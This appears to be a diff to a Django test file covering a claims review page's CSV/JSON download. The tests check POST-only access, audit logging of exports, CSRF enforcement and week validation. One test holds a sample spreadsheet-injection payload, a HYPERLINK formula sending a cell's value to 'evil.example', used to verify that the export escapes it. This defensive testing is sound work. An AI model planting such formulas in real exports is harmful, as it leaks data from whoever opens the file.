@@ -14,6 +14,7 @@ import json
 import re
 from datetime import UTC, datetime, timedelta
 from typing import Any
+from urllib.parse import parse_qsl
 
 import pytest
 from django.contrib.auth import get_user_model
@@ -283,7 +284,8 @@ def test_the_download_is_the_pages_rows(built: dict[str, Any], world: Any) -> No
     week = built["week"].name
     client = _client(world.supervisor)
     rows = page_rows(client.get(f"/teams/claims/review/?week={week}").content.decode())
-    response = client.get(f"/teams/claims/review/download?week={week}&format=csv")
+    before = AuditEvent.objects.count()
+    response = client.post("/teams/claims/review/download", {"week": week, "format": "csv"})
     assert response.status_code == 200
     assert response["Content-Type"].startswith("text/csv")
     assert response["Content-Disposition"] == (
@@ -296,11 +298,22 @@ def test_the_download_is_the_pages_rows(built: dict[str, Any], world: Any) -> No
     ] == rows
     assert {r["week"] for r in parsed} == {week}
     assert all(r["link"].startswith("http://testserver/audit/") for r in parsed)
-    as_json = client.get(f"/teams/claims/review/download?week={week}&format=json")
+    # Taking the report is itself evidence: who took which team's week, as what.
+    [taken] = AuditEvent.objects.filter(verb=Verb.REVIEW_EXPORTED)
+    assert AuditEvent.objects.count() == before + 1
+    assert (taken.actor_type, taken.actor_label, taken.team_id, taken.subject_id) == (
+        "user",
+        "sam",
+        world.claims.pk,
+        str(world.claims.pk),
+    )
+    assert taken.payload == {"team": "claims", "week": week, "format": "csv", "rows": len(rows)}
+    as_json = client.post("/teams/claims/review/download", {"week": week, "format": "json"})
     assert as_json["Content-Disposition"].endswith(f'-{week}.json"')
     body = json.loads(as_json.content)
     assert body["week"] == week
     assert [{k: str(v) for k, v in r.items()} for r in body["rows"]] == parsed
+    assert AuditEvent.objects.filter(verb=Verb.REVIEW_EXPORTED).count() == 2
 
 
 def test_the_default_is_the_last_complete_week(built: dict[str, Any], world: Any) -> None:
@@ -317,6 +330,11 @@ def test_the_default_is_the_last_complete_week(built: dict[str, Any], world: Any
         ("week=2026-48", review.BAD_WEEK),
         ("week=2026-W54", review.BAD_WEEK),
         ("week=2999-W01", "has not begun"),
+        # Week 1 of year 1 has no week before it a date can hold (the page links it).
+        ("week=0001-W01", review.EARLY_WEEK),
+        ("week=1969-W52", review.EARLY_WEEK),
+        # ISO weeks are written in ASCII digits, not in others Python reads as numbers.
+        ("week=%EF%BC%92%EF%BC%90%EF%BC%92%EF%BC%96-W01", review.BAD_WEEK),
         ("week=2026-W01&format=xml", "csv or json"),
     ],
 )
@@ -324,10 +342,11 @@ def test_a_bad_week_or_format_answers_400_with_the_reason(
     built: dict[str, Any], world: Any, query: str, message: str
 ) -> None:
     client = _client(world.supervisor)
-    download = client.get(f"/teams/claims/review/download?{query}")
+    download = client.post("/teams/claims/review/download", dict(parse_qsl(query)))
     assert download.status_code == 400
     assert message in download.content.decode()
     assert "Content-Disposition" not in download
+    assert not AuditEvent.objects.filter(verb=Verb.REVIEW_EXPORTED).exists()
     if "format" not in query:
         page = client.get(f"/teams/claims/review/?{query}")
         assert page.status_code == 400
@@ -339,15 +358,24 @@ def test_only_the_teams_supervisors_and_compliance_see_it(
 ) -> None:
     agent_lead = get_user_model().objects.create_user("agent-lead")
     roles.role_grant(user=agent_lead, role=roles.SUPERVISOR, target=built["agents"][0])
-    for url in ("/teams/claims/review/", "/teams/claims/review/download"):
-        assert _client(world.supervisor).get(url).status_code == 200
-        assert _client(world.compliance).get(url).status_code == 200
-        assert _client(world.admin).get(url).status_code == 403
-        assert _client(agent_lead).get(url).status_code == 403
-        assert _client(world.support_supervisor).get(url).status_code == 404
-        assert _client(world.outsider).get(url).status_code == 404
-        assert Client().get(url).status_code == 302
-        assert _client(world.supervisor).post(url).status_code == 405
+    for url, method, other in (
+        ("/teams/claims/review/", "get", "post"),
+        ("/teams/claims/review/download", "post", "get"),
+    ):
+
+        def ask(client: Client, url: str = url, method: str = method) -> int:
+            return int(getattr(client, method)(url).status_code)
+
+        assert ask(_client(world.supervisor)) == 200
+        assert ask(_client(world.compliance)) == 200
+        assert ask(_client(world.admin)) == 403
+        assert ask(_client(agent_lead)) == 403
+        assert ask(_client(world.support_supervisor)) == 404
+        assert ask(_client(world.outsider)) == 404
+        assert ask(Client()) == 302
+        assert getattr(_client(world.supervisor), other)(url).status_code == 405
+    # Only the two allowed downloads were recorded; the refused ones wrote nothing.
+    assert AuditEvent.objects.filter(verb=Verb.REVIEW_EXPORTED).count() == 2
     # The support team's supervisor reads their own team's week, not the claims items.
     theirs = _client(world.support_supervisor).get(
         f"/teams/support/review/?week={built['week'].name}"
@@ -369,7 +397,7 @@ def test_the_page_and_download_cost_the_same_queries_for_few_items_as_for_many(
 ) -> None:
     week = built["week"].name
     client = _client(world.compliance)
-    urls = [f"/teams/claims/review/?week={week}", f"/teams/claims/review/download?week={week}"]
+    urls = [f"/teams/claims/review/?week={week}", "/teams/claims/review/download"]
     rogue_agent, _, counter = built["agents"]
     counts: list[list[int]] = []
     for more in (0, 3):
@@ -379,10 +407,66 @@ def test_the_page_and_download_cost_the_same_queries_for_few_items_as_for_many(
             alert(counter)
         row = []
         for url in urls:
-            assert client.get(url).status_code == 200
+
+            def ask(url: str = url) -> int:
+                if url.endswith("download"):
+                    return int(client.post(url, {"week": week}).status_code)
+                return int(client.get(url).status_code)
+
+            assert ask() == 200
             with CaptureQueriesContext(connection) as queries:
-                assert client.get(url).status_code == 200
+                assert ask() == 200
             row.append(len(queries))
         counts.append(row)
     assert counts[0] == counts[1], counts
     assert AuditEvent.objects.filter(verb="alert.fired").count() == 5
+
+
+def test_the_download_needs_its_csrf_token_as_the_audit_export_does(
+    built: dict[str, Any], world: Any
+) -> None:
+    # Taking the report writes to the trail: another site must not make a lead take one.
+    week = built["week"].name
+    forged = Client(enforce_csrf_checks=True)
+    forged.force_login(world.supervisor)
+    response = forged.post("/teams/claims/review/download", {"week": week, "format": "csv"})
+    assert response.status_code == 403
+    assert not AuditEvent.objects.filter(verb=Verb.REVIEW_EXPORTED).exists()
+    # The page's own form carries the token, the week shown and a button per format.
+    page = forged.get(f"/teams/claims/review/?week={week}").content.decode()
+    form = page.split('data-testid="review-download"', 1)[1].split("</form>", 1)[0]
+    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', form)
+    assert token is not None
+    assert f'name="week" value="{week}"' in form
+    assert 'name="format" value="csv"' in form and 'name="format" value="json"' in form
+    response = forged.post(
+        "/teams/claims/review/download",
+        {"week": week, "format": "json", "csrfmiddlewaretoken": token[1]},
+    )
+    assert response.status_code == 200
+    assert AuditEvent.objects.get(verb=Verb.REVIEW_EXPORTED).payload["format"] == "json"
+
+
+def test_a_reason_written_as_a_formula_is_text_in_the_csv(
+    built: dict[str, Any], world: Any
+) -> None:
+    # A rejecter's reason (or an upstream's error) must not run in the spreadsheet of the
+    # person who opens the report; the JSON keeps the text as it was given.
+    formula = '=HYPERLINK("http://evil.example/?leak=" & A2, "open")'
+    request = payout(built["agents"][1], 900)
+    approval_decide(
+        request_id=request.pk,
+        user=world.supervisor,
+        verdict="reject",
+        seen_args_hash=request.args_hash,
+        comment=formula,
+    )
+    client = _client(world.compliance)
+    week = built["week"].name
+    text = client.post("/teams/claims/review/download", {"week": week}).content.decode()
+    causes = [r["cause"] for r in csv.DictReader(io.StringIO(text))]
+    expected = review.cause_of(formula)
+    assert "'" + expected in causes and expected not in causes
+    assert not any(c.startswith(("=", "+", "-", "@")) for c in causes)
+    body = client.post("/teams/claims/review/download", {"week": week, "format": "json"})
+    assert expected in [r["cause"] for r in json.loads(body.content)["rows"]]
